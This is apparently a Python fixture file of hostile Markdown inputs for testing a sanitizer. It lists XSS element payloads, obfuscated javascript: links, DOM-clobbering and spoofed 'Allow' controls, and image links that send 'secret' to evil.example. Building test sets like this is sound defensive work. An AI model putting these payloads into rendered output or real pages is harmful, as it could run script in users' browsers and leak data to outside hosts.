"""Hostile Markdown: what would be an element, a link, a control or a request of its own."""

from __future__ import annotations

ELEMENTS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><animate onbegin=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<video onmouseover=alert(1) src=x>",
    "<form action=https://evil.example><input type=submit>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "</div></details></pre></code></style><script>alert(1)</script>",
    "<b onclick=alert(1)",
    "<!--><script>alert(1)</script>-->",
    "<?php alert(1) ?><![CDATA[<script>alert(1)</script>]]>",
    "<base href=https://evil.example/>",
    "<details open ontoggle=alert(1)>",
]
LINKS = [
    "[go](javascript:alert(1))",
    "[go](JaVaScRiPt:alert(1))",
    "[go](&#106;avascript&colon;alert(1))",
    "[go](java&Tab;script:alert(1))",
    "[go](<java\tscript:alert(1)>)",
    "[go](data:text/html,<script>alert(1)</script>)",
    "[go](vbscript:msgbox)",
    "[go](file:///etc/passwd)",
    "[go](//evil.example)",
    "<javascript:alert(1)>",
    "[go][r]\n\n[r]: javascript:alert(1)",
    "[go]( \x01javascript:alert(1))",
    "![go](javascript:alert(1))",
]
CONTROLS = [
    "<button data-commandlinker-command='terminal:create-new'>Go</button>",
    "<a id=MathJax href=https://example.com>x</a>",
    "<form id=document name=cookie><input name=body></form>",
    "<p class=claude-allow style='position:fixed' name=x>Allow</p>",
    '```"><img src=x onerror=alert(1)>\ncode\n```',
    "```python class=claude-allow\ncode\n```",
]
IMAGES = [
    "![x](https://evil.example/?q=secret)",
    "[![x](https://evil.example/?q=secret)](https://example.com)",
    "![x][r]\n\n[r]: https://evil.example/?q=secret",
    "https://evil.example/preview.png",
    "<img src=https://evil.example/?q=secret>",
    "<div style='background:url(https://evil.example)'>",
]
